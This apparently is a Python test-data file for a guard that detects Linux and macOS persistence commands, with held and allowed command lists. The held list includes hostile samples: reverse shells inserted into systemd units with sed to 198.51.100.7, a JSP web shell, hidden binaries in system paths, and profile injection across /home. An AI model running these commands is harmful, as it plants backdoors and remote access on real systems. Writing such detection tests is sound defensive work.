"""Persistence on Linux and macOS, measured on fresh sources (persist27, session 23).

Split by source before any verdict was seen (kept outside the repository: /work/realworld/persist27).
Held out whole: Trevohack/DynastyPersist (its installer's steps) and hack-fast/Hackfast's Linux
"Establishing Persistence" pages. Tuned on: a red-team note "Linux Persistence Mechanisms" and its
macOS sibling (one unnamed repository). Most of the techniques were held at first sight (units, timers,
cron, profiles, PAM, ld.so.preload, udev rule files, generators, launchd, emond, folder actions); the
classes fixed here are the steps around them:

- a hidden name right among the system's programs (``/usr/local/sbin/.auth-helper``, the PAM hook's or
  udev rule's script): a location, so every writer is judged (blocked, as hidden persistence);
- a file made runnable where payloads hide (``chmod +x /tmp/.beacon.sh``, ``chmod 755 /dev/shm/x``): asked,
  as running it from there is;
- ``udevadm control --reload-rules`` and ``udevadm trigger``: the step that makes a written rule's program
  run as root (asked; ``info``, ``monitor``, ``test``, ``trigger --dry-run`` pass);
- the initramfs rebuilt (``update-initramfs -u``, ``dracut -f``, ``mkinitcpio -P``) with whatever its hook
  directories hold: asked;
- macOS's ``periodic daily`` (its root maintenance scripts run now) and a kernel module signed with the
  machine's key (``sign-file``, ``kmodsign``): asked;
- a file put into a Java server's ``webapps`` (a .jsp web shell, a .war deployed): asked, like a script
  put under ``/var/www``.
- (from probes written for the brief's classes) incron's and fcron's tables (``incrontab FILE|-e``,
  ``/var/spool/incron``) and a user's ``~/.anacrontab``: asked as cron's are; the PAM stack rebuilt
  (``pam-auth-update --enable``, ``authselect select``, ``authconfig --update``): asked, and a PAM profile
  written into ``/usr/share/pam-configs``: blocked, as ``/etc/pam.d`` is.
- (after the held-out part was measured at the end: its known miss) a shell start-up file written in a
  directory named at run time (``echo "$cmd" >> "$user/.bashrc"`` in a loop over ``/home/*``): asked,
  as ``~/.bashrc`` is; a remote shell put into a file by ``sed -i`` (appended, a line changed, or the
  replacement of a substitution: a unit's ``ExecStart=`` made a reverse shell): blocked, as ``echo … >> FILE``
  is.

The commands are variants written for the tests, not the measured lines.
"""

from __future__ import annotations

HELD = {
    "hidden program among the system's programs": [
        "printf '#!/bin/sh\\nexit 0\\n' > /usr/local/bin/.pam-hook",
        "sudo cp helper /usr/sbin/.kworkerd",
        "install -m 0755 agent /usr/local/lib/.cache-agent",
        "sudo tee /usr/libexec/.netd < payload.sh",
        "ln -sf /opt/x/run /usr/local/sbin/.run",
    ],
    "made runnable where payloads hide": [
        "chmod +x /var/tmp/.sysupdate",
        "chmod 0755 /dev/shm/agent",
        "sudo chmod u+x /tmp/.ICE-unix/.x/kit",
        "chmod a+x /usr/local/bin/.helper",
    ],
    "udev rules reloaded or replayed": [
        "sudo udevadm control --reload-rules",
        "udevadm control -R",
        "sudo udevadm trigger --subsystem-match=net --action=add",
        "udevadm trigger",
    ],
    "initramfs rebuilt": [
        "sudo update-initramfs -u -k all",
        "update-initramfs -c -k 6.8.0-31-generic",
        "sudo dracut -f --regenerate-all",
        "mkinitcpio -P",
    ],
    "periodic run and module signed": [
        "sudo periodic weekly",
        "periodic daily monthly",
        "/usr/src/linux-headers-6.8.0/scripts/sign-file sha512 MOK.priv MOK.der helper.ko",
        "kmodsign sha512 /var/lib/shim-signed/mok/MOK.priv /var/lib/shim-signed/mok/MOK.der x.ko",
    ],
    "java webapps": [
        "cp shell.jsp /var/lib/tomcat10/webapps/ROOT/status.jsp",
        "sudo cp app.war /opt/tomcat/webapps/",
        "echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > "
        "/usr/share/tomcat9/webapps/ROOT/x.jsp",
    ],
    "incron, fcron, user anacron": [
        "incrontab /var/tmp/watch.tab",
        "sudo incrontab -u root -e",
        "printf '/etc/shadow IN_MODIFY /opt/x\\n' | sudo tee /var/spool/incron/root",
        "fcrontab -e",
        "printf '1 5 job /opt/x\\n' >> ~/.anacrontab",
    ],
    "PAM stack rebuilt": [
        "sudo pam-auth-update --enable helper --force",
        "sudo authselect select sssd with-mkhomedir --force",
        "authconfig --enableshadow --update",
        "sudo cp helper /usr/share/pam-configs/helper",
    ],
    "profile in a home named at run time": [
        'for h in /home/*; do printf "%s\\n" "$payload" >> "$h/.zshrc"; done',
        'tee -a "${target_home}/.bash_profile" < snippet.sh',
        'cp rc "$U/.profile"',
    ],
    "remote shell put in by sed -i": [
        "sed -i '/^ExecStartPre=/c\\ExecStartPre=/bin/sh -c \"sh -i >& /dev/tcp/198.51.100.7/9001 0>&1\"' "
        '"$unit"',
        "sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/ncat 198.51.100.7 9001 -e /bin/bash#' /tmp/web.service",
        "sed -i -e '1i rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 9001 >/tmp/f' run.sh",
    ],
}

ALLOWED = [
    "sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/node /srv/app/server.js#' deploy/app.service",
    "sed -i '$a export NODE_ENV=production' scripts/env.sh",
    "sed 's/nc -e/ncat -e/' notes.md",
    'grep -n alias "$h/.bashrc"',
    'echo done >> "$dir/bashrc.log"',
    "incrontab -l",
    "fcrontab -l",
    "authselect current",
    "authconfig --test",
    "cat /usr/share/pam-configs/unix",
    "ls -la /usr/lib/.build-id | head",
    "cat /usr/local/bin/mytool",
    "chmod +x ./scripts/build.sh",
    "chmod +x /tmp/build/run.sh",
    "chmod 644 /tmp/.cache.json",
    "sudo chmod 755 /var/run/postgresql",
    "sudo chmod 775 /run/php-fpm",
    "udevadm info --query=all --name=/dev/ttyUSB0",
    "udevadm monitor --environment --udev",
    "udevadm test /sys/class/net/eth0",
    "udevadm trigger --dry-run --verbose",
    "udevadm settle --timeout=10",
    "update-initramfs -h",
    "dracut --list-modules",
    "lsinitramfs /boot/initrd.img | head",
    "periodic --help",
    "ls /var/lib/tomcat9/webapps",
    "cat /opt/tomcat/webapps/ROOT/index.jsp",
    "cp target/app.war build/dist/",
]
